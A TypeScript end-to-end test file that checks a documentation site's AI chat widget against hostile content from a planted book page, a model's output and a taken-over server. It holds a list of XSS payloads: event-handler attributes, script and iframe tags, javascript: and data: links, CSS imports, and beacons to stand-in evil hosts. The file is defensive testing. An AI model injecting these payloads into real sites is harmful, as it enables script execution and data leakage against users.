/** A book and a model that mean harm, through the chat on the book's pages: nothing executes, and nothing leaves. */
import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, expect, test } from 'vitest';
import { spaceHost } from './edge.ts';
import { bookUrl, sampleBook } from './stage.ts';
import { askInPanel, useBook, type BookVisit } from './use-book.ts';
import { useStage } from './use-stage.ts';

/** Each writer of a text has a host of its own: what a book links itself may be a link in an answer. */
const [evilBook, evilModel, evilServer] = ['book', 'model', 'server'].map(
  (who) => `https://evil-${who}.example`,
) as [string, string, string];
const bookHost = new URL(bookUrl).host;
const run = (code: number): string => `globalThis.hacked=${code}`;

/** What runs or loads something where a page takes it for markup. */
const markupOf = (evil: string): string =>
  [
    `<img src=x onerror="${run(1)}">`,
    `<img src="${evil}/beacon.png">`,
    `<script>${run(2)}</script>`,
    `<script src="${evil}/x.js"></script>`,
    `<iframe srcdoc="<script>parent.${run(3)}</script>"></iframe>`,
    `<svg onload="${run(4)}"><a xlink:href="javascript:${run(5)}">x</a></svg>`,
    `<style>@import "${evil}/x.css"; * { background: url(${evil}/y) }</style>`,
    `<form action="${evil}"><button autofocus onfocus="${run(6)}">x</button></form>`,
    `<details open ontoggle="${run(7)}">x</details>`,
    `<a href="javascript:${run(8)}">x</a><base href="${evil}"><meta http-equiv="refresh" content="0;${evil}">`,
  ].join(' ');
const linksOf = (
  evil: string,
): string => `[a](${evil}/?q=text) ![i](${evil}/i.png) <${evil}/auto> ${evil}/bare [b](javascript:${run(9)}) [c](data:text/html,<script>${run(10)}</script>) [d](//${new URL(evil).host}) [e][r] [f](${bookUrl}@${new URL(evil).host}/)

[r]: ${evil}/reference "x"`;
const markersOf = (
  evil: string,
): string => `It is so [Source 99], [Source 0], [Source -1], [Source 1](${evil}/marker), [[Source 1]](javascript:${run(11)}), [Source 1, Source 99].

Sources

1. [The book](${evil}/fake)`;

const dir = mkdtempSync(join(tmpdir(), 'hostile-book-'));
cpSync(sampleBook, dir, { recursive: true });
const escaped = (text: string): string => text.replaceAll(/[<>[\]{}!*_\\`]/g, String.raw`\$&`);
writeFileSync(
  join(dir, 'docs/02-hardware/06-gale-horn.md'),
  `---
title: 'The gale horn <img src=x onerror=${run(12)}>'
---

The gale horn sounds at force nine. ${escaped(markupOf(evilBook))}

## Sounding the horn ${escaped(`<script>${run(13)}</script>`)}

The gale horn is sounded by hand for one minute. ${escaped(markupOf(evilBook))} ${escaped(markersOf(evilBook))} [the maker](${evilBook}/maker)

\`\`\`html
</code></pre>${markupOf(evilBook)}
\`\`\`
`,
);
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const tools = useStage({ CHAT_PER_MINUTE: '1000', CHAT_PER_CONVERSATION_MINUTE: '1000' }, dir);
const { stage, still } = tools;
const { visit } = useBook(tools);

const firstPage = '/docs/hardware/sensors';
type Watched = BookVisit & { hosts: Set<string>; opened: string[] };

async function watchedVisit(): Promise<Watched> {
  const book = await visit();
  const [hosts, opened]: [Set<string>, string[]] = [new Set(), []];
  book.context.on('request', (request) => hosts.add(new URL(request.url()).host));
  book.context.on('page', (page) => opened.push(page.url()));
  book.page.on('dialog', (dialog) => opened.push(dialog.message()));
  return { ...book, hosts, opened };
}

/** Elements of the chat; anything else came from a text. */
const ownElements =
  'section,article,aside,a,blockquote,button,code,details,div,em,h2,h3,header,input,label,li,ol,p,path,pre,q,span,strong,summary,svg,ul';

/** Nothing ran, nothing was asked of another host, and links lead to the book's host and to one that may be linked. */
async function assertHarmless(
  { page, hosts, opened, errors }: Watched,
  { at = firstPage, linked = evilBook }: { at?: string; linked?: string } = {},
): Promise<void> {
  const drawn = await page.evaluate((own) => {
    const log = document.querySelector('book-chat')?.shadowRoot?.querySelector('.scroll');
    const all = [...(log?.querySelectorAll('*') ?? [])];
    return {
      count: all.length,
      hacked: (globalThis as { hacked?: unknown }).hacked ?? null,
      strange: all.filter((element) => !element.matches(own)).map(({ localName }) => localName),
      attributes: all.flatMap((element) =>
        element.getAttributeNames().filter((name) => /^on|^style$|^src|xlink/.test(name)),
      ),
      addresses: all.flatMap((element) => (element instanceof HTMLAnchorElement ? [element.href] : [])),
    };
  }, ownElements);
  expect(drawn.count).toBeGreaterThan(10);
  expect(drawn).toMatchObject({ hacked: null, strange: [], attributes: [] });
  const foreign = drawn.addresses.filter((address) => new URL(address).host !== bookHost);
  expect(foreign.filter((address) => new URL(address).origin !== linked)).toEqual([]);
  expect([...hosts].toSorted()).toEqual([spaceHost, bookHost].filter((host) => hosts.has(host)).toSorted());
  expect(page.url()).toMatch(new RegExp(`^${bookUrl}${at}`));
  expect([opened, errors]).toEqual([[], []]);
}

const question = 'How long is the gale horn sounded by hand?';

const [markup, links, markers] = [markupOf(evilModel), linksOf(evilModel), markersOf(evilModel)];

test.for([
  ['markup', markup],
  ['links', links],
  ['markers that lie', markers],
  ['everything', `${markers}\n\n${links}\n\n> ${markup}\n\n\`\`\`\n${markup}\n\`\`\`\n\n- ${markup}`],
])('a model that writes %s', async ([name, text]) => {
  for (const pieces of [[text!], [...text!]]) {
    stage().vendors.gemini.controls['script']!({ pieces, unlimited: true });
    const book = await watchedVisit();
    await askInPanel(book, `${question} (${name}, ${pieces.length})`);
    expect(await book.panel.locator('.answer .text').textContent()).not.toBe('');
    const sources = await book.panel.locator('.answer > ol li').count();
    const cited = await book.panel
      .locator('.answer a.cite')
      .evaluateAll((marks) => marks.map((mark) => mark.textContent));
    for (const number of cited) expect(Number(number)).toBeLessThanOrEqual(sources);
    await assertHarmless(book);
    // As it is drawn from the session's storage.
    await book.page.reload();
    await book.panel.locator('.answer').waitFor();
    await assertHarmless(book);
  }
});

test('a book whose titles, headings and text are markup: search, answer, sources, and the cited page', async () => {
  const book = await watchedVisit();
  stage().vendors.gemini.controls['script']!({
    pieces: ['It is sounded for one minute [Source 1].'],
    delayMs: 1500,
  });
  await book.launcher.click();
  await book.panel.locator('#question').fill(question);
  await book.panel.locator('#question').press('Enter');
  // What words alone find is shown while the answer is written.
  await book.panel.locator('.results li').first().waitFor();
  expect(await book.panel.locator('.results').textContent()).toContain(`<script>${run(13)}`);
  await assertHarmless(book);
  await book.panel.locator('.answer:not([aria-busy])').waitFor();
  expect(await book.panel.locator('.answer > ol').textContent()).toContain('<');
  await still('widget-injection', book.page);
  await assertHarmless(book);
  await book.panel.locator('.answer > ol a').first().click();
  await book.page.waitForURL(/gale-horn/);
  await book.panel.locator('.answer').waitFor();
  await book.page.waitForTimeout(300);
  await assertHarmless(book, { at: '/docs/hardware/gale-horn' });
});

test('the book’s own text as the answer, while the model is down', async () => {
  stage().vendors.faults.add({ call: 'gemini.*', kind: { type: 'status', status: 500 } });
  try {
    const book = await watchedVisit();
    await askInPanel(book, `${question} (without the model)`);
    expect(await book.panel.locator('.answer .text').textContent()).toMatch(/This is what the book says/);
    await assertHarmless(book);
  } finally {
    stage().vendors.faults.clear();
  }
});

test('a server that is not ours any more', async () => {
  const book = await watchedVisit();
  const url = `javascript:${run(14)}`;
  const text = markupOf(evilServer);
  const source = { file: text, title: text, heading: text, url, quote: text };
  const events = [
    { type: 'token', content: `${text} [Source 1] [Source 2] [Source 3] ${linksOf(evilServer)}` },
    {
      type: 'done',
      sources: [
        source,
        { ...source, url: `${evilServer}/s` },
        { ...source, url: `//${new URL(evilServer).host}/s` },
      ],
    },
  ];
  await book.page.route('**/api/chat', (route) =>
    route.fulfill({
      headers: { 'content-type': 'text/event-stream', 'access-control-allow-origin': bookUrl },
      body: events.map((event) => `data: ${JSON.stringify(event)}\n\n`).join(''),
    }),
  );
  await askInPanel(book, `${question} (taken over)`);
  expect(await book.panel.locator('.answer .text').textContent()).toContain('<img');
  // What may be linked is the server's to say; an address that runs something is never a link.
  await assertHarmless(book, { linked: evilServer });
});
